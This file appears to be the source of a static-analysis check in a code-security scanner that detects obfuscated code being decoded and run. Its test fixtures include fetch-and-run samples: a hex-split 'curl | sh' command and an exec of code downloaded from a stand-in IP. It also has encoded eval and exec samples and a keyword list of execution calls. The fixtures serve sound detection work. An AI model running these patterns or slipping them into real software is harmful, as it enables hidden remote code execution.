"""Encoded, compressed or computed text is turned back into code and run.

Text is encoded so that readers and scanners do not see what it does; code that is to be reviewed is not.  What the
constants decode to is worked out here, without running it, and judged like any other code.  Ship the code itself.
See CWE-506 and MITRE ATT&CK T1027, T1140.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._evaluate import text_of, value_of
from codeguard.checks.malicious._layers import MAX_LAYER_SIZE, STRESS, computed, judged, layers, of_this_group, shown
from codeguard.checks.malicious._pickled import harmless, names
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.checks.malicious._when import when
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.values import string_value
from codeguard.syntax.walk import descend

SELF = "CGM007"
SUSPICIOUS = (
    "exec",
    "eval",
    "compile",
    "FunctionType",
    "loads",
    "getattr",
    "__import__",
    "globals",
    "system",
    "popen",
    "subprocess",
    "pty",
    "-c",
    "timeit",
    "runsource",
    "runcode",
    "push",
    ".run",
    "b32decode",
    "b64decode",
    "unhexlify",
    "fromhex",
)
WORD = re.compile(r"[^\W\d]{3,}")  # what a text does, it does by names
PYTHON = re.compile(r"(?:^|[/\\])python[\d.]*w?(?:\.exe)?$", re.IGNORECASE)
COMMANDS = (running.FETCH_AND_RUN, running.SHELL_TO_SOCKET, running.DECODE_AND_RUN)
SHORTEST = 12  # characters of a command or a line of code that does harm
BYTE_LOADERS = {"pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads", "marshal.loads"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report what runs decoded text, and plain text run as code that one of the other checks of this group reports."""
    known = unit.fact(calls)
    texts = {id(layer.call): layer for layer in unit.fact(layers)}
    told: set[int] = set()
    for _name, call in known.of(running.EXEC_CALLS):
        if not call.args or id(call) in told or _inside_another(call, unit, told):
            continue
        layer = texts.get(id(call))
        source = call.args[0].value
        if layer is not None and (layer.encoded and (_decodes(source, unit) or not _readable(source, unit))):
            told.add(id(call))
            yield Hit(call, f"This runs hidden code, which reads `{shown(layer.text)}`{_says(layer.text)}")
        elif layer is None and "decoded" in unit.fact(reach).kinds(source):
            told.add(id(call))
            constant = _blob(source, unit)
            how = f"This decodes {'a constant' if constant else 'data'} and runs the result as code, so that no reader sees what it does"
            yield Hit(
                call,
                how,
                severity=None if constant else Severity.MEDIUM,
                confidence=None if constant else Confidence.MEDIUM,
            )
        elif layer is not None:
            said = _says(layer.text)
            if said:
                told.add(id(call))
                yield Hit(call, f"This runs text as code{said}")
    for command in unit.fact(commands):
        layer = texts.get(id(command.call))
        if layer is not None and id(command.call) not in told and (said := _says(layer.text)):
            told.add(id(command.call))
            yield Hit(command.call, f"This runs text as code in another Python{said}")
        elif running.DECODE_AND_RUN.search(command.text):
            told.add(id(command.call))
            yield Hit(command.call, f"This runs an encoded command, which no reader sees: `{shown(command.text)}`")
        elif (posing := _posing(command)) and when(command.call, unit) != "later":
            yield Hit(
                command.call,
                f"This runs `{posing}`, which by its name is data, as a program: no reader looks for code there",
                severity=Severity.HIGH,
                confidence=Confidence.MEDIUM,
            )
        elif command.words and any(_decodes(word, unit) for word in command.words):
            told.add(id(command.call))
            yield Hit(command.call, f"This runs a hidden command, which reads `{shown(command.text)}`")
    yield from _handed_on(unit) if not told else ()
    for name, call in known.of(BYTE_LOADERS):
        data = value_of(call.args[0].value, unit) if call.args and name != "marshal.loads" else None
        if isinstance(data, bytes) and not harmless(data):
            yield Hit(
                call,
                f"`{name}` of a constant calls {_named(data)}, which no reader sees",
                severity=Severity.HIGH,
                confidence=Confidence.MEDIUM,
            )


def _handed_on(unit: Unit) -> Iterator[Hit]:
    """Decoded constants that are harmful commands or code, given to something whose name the file hides or makes up."""
    known = unit.fact(calls)
    for _name, call in known.of(running.DECODE_CALLS):
        taker = _taker(call, unit)
        if taker is None or not _unnamed(known.name_of.get(id(taker))):
            continue
        text = text_of(value_of(call, unit)) if call.args else None
        if not text or len(text) < SHORTEST or len(text) > MAX_LAYER_SIZE or STRESS.search(text):
            continue
        if any(pattern.search(text) for pattern in COMMANDS):
            yield Hit(taker, f"This hands on a hidden command, which reads `{shown(text)}`")
        elif "(" in text and (said := _says(text)):
            yield Hit(taker, f"This hands on hidden code, which reads `{shown(text)}`{said}")


def _taker(call: cst.Call, unit: Unit) -> cst.Call | None:
    """The call that is given the decoded text, as it is or as `str`."""
    node: cst.CSTNode = call
    for above in unit.ancestors(call):
        if isinstance(above, cst.Arg):
            taker = unit.parent(above)
            return taker if isinstance(taker, cst.Call) else None
        wraps = isinstance(above, cst.Attribute) and above.attr.value in {"decode", "strip"}
        if not wraps and not (isinstance(above, cst.Call) and above.func is node):
            return None
        node = above
    return None


def _unnamed(name: str | None) -> bool:
    """Whether a called thing is no library's and no builtin, as far as the text tells."""
    return name is None or name.startswith("<local>.") or name.endswith(("()", "[]"))


def _posing(command: Command) -> str:
    """The file that a Python is started on, where its name is that of data."""
    if command.name == "runpy.run_path":
        script = command.argv[0] if command.argv else ""
    elif command.argv and PYTHON.search(command.argv[0]) and len(command.argv) > 1:
        script = next((word for word in command.argv[1:] if not re.match(r"-[BEIOSsuv]+$", word)), "")
    else:
        return ""
    match = running.DATA_FILE.search(script)
    return match.group() if match else ""


def _named(data: bytes) -> str:
    """What a pickle names, as words."""
    known = sorted(name for name in names(data) if name != "?")
    return ", ".join(f"`{shown(name, 40)}`" for name in known[:3]) or "what its bytes say"


def _says(text: str) -> str:
    """What the worst finding in a text says, as the end of a sentence."""
    found = judged(text, of_this_group(SELF))
    if not found:
        return ""
    message = found[0][1].message
    return f": {message[0].lower()}{message[1:]}"


def _inside_another(call: cst.Call, unit: Unit, told: set[int]) -> bool:
    return any(id(above) in told for above in unit.ancestors(call))


def _decodes(node: cst.BaseExpression, unit: Unit) -> bool:
    return (
        computed(node, unit)
        and "decoded" in unit.fact(reach).kinds(node)
        and "remote" not in unit.fact(reach).kinds(node)
        and _blob(node, unit)
    )


def _readable(node: cst.BaseExpression, unit: Unit) -> bool:
    """Whether the text that is run can be read in the source: each of its words stands in one piece of the text."""
    text = text_of(value_of(node, unit)) or ""
    pieces = "\n".join(_literals(node, unit))
    return not unit.fact(reach).constants(node) or all(
        word in pieces or len({*word}) == 1 for word in WORD.findall(text)
    )


def _literals(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> list[str]:
    found: list[str] = []
    for part in descend(node):
        if isinstance(part, cst.SimpleString):
            found.append(text_of(string_value(part)) or "")
        elif isinstance(part, cst.FormattedStringText):
            found.append(part.value)
        elif isinstance(part, cst.Name) and hops < 3:
            for binding in unit.scopes.look_up(part.value, part):
                if binding.kind == "assign" and binding.value is not None:
                    found += _literals(binding.value, unit, hops + 1)
    return found


def _blob(node: cst.BaseExpression, unit: Unit) -> bool:
    """Whether a constant of some length is what is decoded."""
    if any(len(text) >= 8 for text in _literals(node, unit)):
        return True
    return any(
        isinstance(n, cst.SimpleString) and len(n.value) > 10
        for n in unit.nodes(cst.SimpleString)
        if "b" in n.prefix.lower() and _reaches(n, node, unit)
    )


def _reaches(blob: cst.SimpleString, node: cst.BaseExpression, unit: Unit) -> bool:
    names = {part.value for part in _names(node, unit, 0)}
    above = unit.parent(blob)
    return isinstance(above, cst.Assign) and any(
        isinstance(t.target, cst.Name) and t.target.value in names for t in above.targets
    )


def _names(node: cst.BaseExpression, unit: Unit, hops: int) -> list[cst.Name]:
    found = [part for part in descend(node) if isinstance(part, cst.Name)]
    if hops < 3:
        for name in list(found):
            for binding in unit.scopes.look_up(name.value, name):
                if binding.kind == "assign" and binding.value is not None:
                    found += _names(binding.value, unit, hops + 1)
    return found


CHECK = Check(
    id=SELF,
    behaviour="run code that is hidden in data",
    name="hidden-code-execution",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 94),
    hints=SUSPICIOUS,
    find=find,
    fix="Ship the code in plain text, where it can be reviewed.",
    bad=(
        Bad("import subprocess\nsubprocess.run(['powershell', '-nop', '-enc', 'SQBFAFgAIAAxAA=='])  # finding\n"),
        Bad("import base64\nexec(base64.b64decode('cHJpbnQoJ2hpIHRoZXJlJyk='))  # finding\n"),
        Bad(
            "import marshal, types\nblob = b'c\\x00\\x00\\x00\\x00EXAMPLE'\n\ndef boot():\n    f = types.FunctionType(marshal.loads(blob), globals())  # finding\n    f()\n"
        ),
        Bad(
            "import zlib\nB = b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'\ngetattr(__import__('builtins'), 'ex' + 'ec')(zlib.decompress(B))  # finding\n"
        ),
        Bad("k = 7\nd = [119, 117, 110, 105, 115, 47, 54, 46]\neval(''.join(chr(c ^ k) for c in d))  # finding\n"),
        Bad(
            "import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'logo.png')])  # finding\n"
        ),
        Bad(
            "import binascii\nPARTS = {'a': '6375726c202d7320687474703a2f2f', 'b': '3139322e302e322e312f78207c207368'}\n\nclass Job:\n    def __init__(self, how):\n        self.how = how\n\n    def run(self):\n        self.how(binascii.unhexlify(''.join(p for p in PARTS.values())).decode())  # finding\n"
        ),
        Bad("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))  # finding\n"),
        Bad("exec(')1(tnirp'[::-1])  # finding\n"),
        Bad("import os, base64\nos.system(base64.b64decode('aWQgLXVuIHwgY2F0').decode())  # finding\n"),
        Bad(
            "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://192.0.2.1/a\").read())'])  # finding\n"
        ),
        Bad(
            "import base64\n\ndef f(s):\n    return base64.b64decode(s).decode()\n\ncode = f('cHJpbnQoJ2hpIHRoZXJlJyk=')\nexec(compile(code, '<s>', 'exec'))  # finding\n"
        ),
    ),
    good=(
        Good(
            "import pickle\nST = b'ctime\\nstruct_time\\np0\\n((I2007\\nI8\\nI11\\ntp1\\n.'\nwhen = pickle.loads(ST)\n"
        ),
        Good(
            "exec('def big(' + ', '.join(f'arg{i}' for i in range(300)) + '): return 1')\nNESTED = eval('[' * 20 + ']' * 20)\n"
        ),
        Good(
            "import base64\n\ndef header(user, pw):\n    return 'Basic ' + base64.b64encode(f'{user}:{pw}'.encode()).decode()\n\ndef png(s):\n    return base64.b64decode(s.split(',', 1)[1])\n"
        ),
        Good(
            "import os, subprocess, sys\nHERE = os.path.dirname(__file__)\nsubprocess.run([sys.executable, os.path.join(HERE, 'draw.py'), os.path.join(HERE, 'logo.png')], check=True)\n"
        ),
        Good(
            "import base64, re\nSIGNATURE = re.compile(base64.b64decode('Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==').decode())\n"
        ),
        Good("import codecs\n\ndef spoiler(text):\n    return codecs.encode(text, 'rot13')\n"),
        Good("import zlib\n\ndef index(blob):\n    return zlib.decompress(blob).decode().splitlines()\n"),
        Good(
            "TEMPLATE = 'def f(x):\\n    return x + %d\\n'\n\ndef make(n):\n    space = {}\n    exec(TEMPLATE % n, space)\n    return space['f']\n"
        ),
        Good(
            "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk')\n"
        ),
    ),
    misses=(
        Miss(
            "import base64\nfrom store import load\n\nload(base64.b64decode('cHJpbnQoJ2hpJyk='))  # finding\n",
            why="what a function of another file does with its argument is not known",
        ),
    ),
)
